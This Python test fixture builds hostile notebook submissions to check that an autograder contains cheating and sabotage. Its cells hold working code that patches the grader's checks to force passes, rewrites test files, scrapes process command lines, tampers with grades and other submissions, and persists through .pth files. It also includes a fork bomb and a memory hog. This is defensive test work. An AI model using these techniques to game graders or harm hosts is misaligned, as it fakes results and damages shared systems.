"""A hostile class: one submission per attack on the grader (issue 14), built from a student notebook of lesson 00.

Each attack answers the exercise wrongly (``np.zeros``) and then tries to turn that into marks, or to harm the
grader, another submission or the instructor's machine. Every path it aims at on the host is given to it as the
grader's own command line and files would show them. Whatever an attack manages to write carries :data:`MARK`,
and every process it starts carries :data:`MARK` in its command line, so the test can look for survivors.
"""
from __future__ import annotations

from pathlib import Path

import nbformat

MARK = "dcn-hostile-mark"
WRONG = "def my_sampling_positions(y, x, offsets):\n    return np.zeros((9, 2))"
RIGHT = ("def my_sampling_positions(y, x, offsets):\n"
         "    i, j = np.meshgrid(np.arange(3), np.arange(3), indexing='ij')\n"
         "    return np.array([y - 1, x - 1]) + np.stack([i.ravel(), j.ravel()], 1) + np.asarray(offsets)")


def _cells(targets: dict[str, str]) -> dict[str, list[str]]:
    t = {k: repr(v) for k, v in targets.items()}
    return {
        # 1. patching what the checks call, inside the kernel
        "a1_patch_kernel": [WRONG, f"""
import runpy, otter, sys, types
import numpy as np
import dcn_lessons, dcn_lessons.geometry
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
dcn_lessons.geometry.sampling_positions = lambda y, x, offsets: np.zeros((9, 2))  # the reference of the check
grader.check = lambda *a, **k: print("q1 passed!")
otter.Notebook.check = lambda *a, **k: None
_real_run_path = runpy.run_path
def _fake_run_path(path, *a, **k):
    if "lesson00" in str(path) or "_core" in str(path):
        return {{"check_sampling_positions": lambda fn, *x, **y: None}}
    return _real_run_path(path, *a, **k)
runpy.run_path = _fake_run_path
sys.modules["dcn_lessons.exercises"] = types.ModuleType("dcn_lessons.exercises")
dcn_lessons.__path__[:] = ["/tmp/{MARK}"]
"""],
        # 2. rewriting the test files otter reads from the working directory, and the notebook's own tests
        "a2_rewrite_tests": [WRONG, f"""
import json, os, glob
os.makedirs("tests", exist_ok=True)
open("tests/q1.py", "w").write("OK_FORMAT = True\\ntest = {{'name': 'q1', 'points': 1, 'suites': [{{'cases': "
                               "[{{'code': '>>> True\\\\nTrue', 'hidden': False, 'locked': False}}], 'scored': True, "
                               "'setup': '', 'teardown': '', 'type': 'doctest'}}]}}  # {MARK}\\n")
for nb_path in glob.glob("*.ipynb"):
    nb = json.load(open(nb_path))
    for test in nb["metadata"].get("otter", {{}}).get("tests", {{}}).values():
        for suite in test["suites"]:
            for case in suite["cases"]:
                case["code"] = ">>> True\\nTrue\\n"
    json.dump(nb, open(nb_path, "w"))
"""],
        # 3. editing a checked file and restoring it before any check of the files
        "a3_edit_restore": [WRONG, f"""
import atexit, os
import dcn_lessons
targets = [os.path.join(dcn_lessons.__path__[0], "exercises", "lesson00.py"), {t['checkout_check']}, {t['site_numpy']}]
for p in targets:
    try:
        original = open(p).read()
        open(p, "w").write("def check_sampling_positions(fn):\\n    pass  # {MARK}\\n")
        atexit.register(lambda p=p, original=original: open(p, "w").write(original))
        print("edited", p)
    except OSError as e:
        print("cannot edit", p, e)
"""],
        # 4. escaping the kill: a double-forked daemon that reads the grader's command line and goes after the CSV
        # and the other submissions
        "a4_daemon": [WRONG, f"""
import subprocess, sys
daemon = '''
import glob, os, time
loot = []
for _ in range(3000):
    for f in glob.glob("/proc/*/cmdline"):
        try:
            loot.append(open(f, "rb").read())
        except OSError:
            pass
    for target in [{t['csv']}, {t['other_submission']}, {t['loot']}]:
        try:
            open(target, "a").write("{MARK}\\\\n")
        except OSError:
            pass
    for d in glob.glob("/tmp/dcn-grade-*") + glob.glob("/tmp/*/dcn-grade-*"):
        for root, dirs, files in os.walk(d):
            try:
                open(os.path.join(root, "{MARK}"), "w").write("{MARK}")
            except OSError:
                pass
    time.sleep(0.1)
'''
open("daemon.py", "w").write(daemon)
subprocess.Popen(["sh", "-c", f"nohup {{sys.executable}} daemon.py {MARK} >/dev/null 2>&1 &"], start_new_session=True)
"""],
        # 4. a C-level loop that holds the GIL (no signal reaches Python code)
        "a4_gil_loop": [WRONG, "sum(range(10**14))"],
        # 4. a detached child, then a plain loop
        "a4_detached": [WRONG, f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "{MARK}"], start_new_session=True)
while True:
    pass
"""],
        # 5. persisting across submissions and runs
        "a5_persist": [WRONG, f"""
import os, site, sys
line = "import os; os.environ['DCN_HOSTILE'] = '{MARK}'\\n"
dirs = site.getsitepackages() + [site.getusersitepackages()] + [p for p in sys.path if p]
for d in dirs:
    try:
        os.makedirs(d, exist_ok=True)
        open(os.path.join(d, "zz_{MARK}.pth"), "w").write(line)
        print("wrote a .pth into", d)
    except OSError:
        pass
for p in ["/tmp/zz_{MARK}", "/dev/shm/zz_{MARK}", "/var/tmp/zz_{MARK}", {t['checkout_new_file']}, {t['host_tmp_file']}]:
    try:
        open(p, "w").write("{MARK}")
    except OSError:
        pass
"""],
        # 6. reading the solutions: the masters and the solution notebooks, wherever they can be found
        "a6_read_solutions": ["my_sampling_positions = None", f"""
import json, os, sys
roots = {{"/", os.path.dirname(sys.executable), os.path.dirname(os.path.dirname(sys.executable)), os.getcwd(),
         {t['checkout']}, os.path.dirname({t['checkout']})}}
for name, mod in list(sys.modules.items()):
    if "editable" in name:
        roots.update(str(v) for v in getattr(mod, "MAPPING", {{}}).values())
found = None
for root in roots:
    for dirpath, dirs, files in os.walk(root):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in dirpath:
            dirs[:] = []
            continue
        for f in files:
            if f.endswith(".ipynb") and found is None:
                try:
                    text = open(os.path.join(dirpath, f)).read()
                except OSError:
                    continue
                if "meshgrid" in text and "def my_sampling_positions" in text:
                    found = os.path.join(dirpath, f)
if found:
    for cell in json.load(open(found))["cells"]:
        src = "".join(cell["source"])
        if cell["cell_type"] == "code" and src.startswith("def my_sampling_positions"):
            exec(src)
print("solutions found:", found)
"""],
        # a fork bomb, and a memory hog (one big allocation, then several processes that each touch a part)
        "a7_fork_bomb": [WRONG, """
import os, time
n = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                time.sleep(1)
        n += 1
except OSError as e:
    print("fork failed after", n, e)
"""],
        "a8_memory_hog": [WRONG, """
import os, time
try:
    big = bytearray(64 * 2**30)
except MemoryError as e:
    print("one allocation refused", e)
for _ in range(6):
    if os.fork() == 0:
        block = bytearray(1536 * 2**20)
        for i in range(0, len(block), 4096):
            block[i] = 1
        time.sleep(3600)
time.sleep(30)
"""],
    }


def build(student: Path, out: Path, targets: dict[str, str]) -> dict[str, Path]:
    """Write every attack as a copy of the ``student`` notebook with its cells after the answer's cell; return
    name -> path."""
    out.mkdir(parents=True, exist_ok=True)
    made = {}
    for name, cells in _cells(targets).items():
        nb = nbformat.read(str(student), as_version=4)
        at = next(i for i, c in enumerate(nb.cells) if c.source.startswith("def my_sampling_positions")) + 1
        nb.cells[at:at] = [nbformat.v4.new_code_cell(c.strip("\n")) for c in cells]
        path = out / f"{name}.ipynb"
        nbformat.write(nb, str(path))
        made[name] = path
    return made


def honest(student: Path, path: Path) -> Path:
    """The student notebook with the right answer."""
    nb = nbformat.read(str(student), as_version=4)
    cell = next(c for c in nb.cells if c.source.startswith("def my_sampling_positions"))
    cell.source = RIGHT
    nbformat.write(nb, str(path))
    return path


#: The host paths an attack is given (``build``'s ``targets``), and the attacks by name.
TARGET_KEYS = ("checkout", "checkout_check", "checkout_new_file", "site_numpy", "csv", "other_submission", "loot",
               "host_tmp_file")
ATTACKS = tuple(sorted(_cells(dict.fromkeys(TARGET_KEYS, ""))))
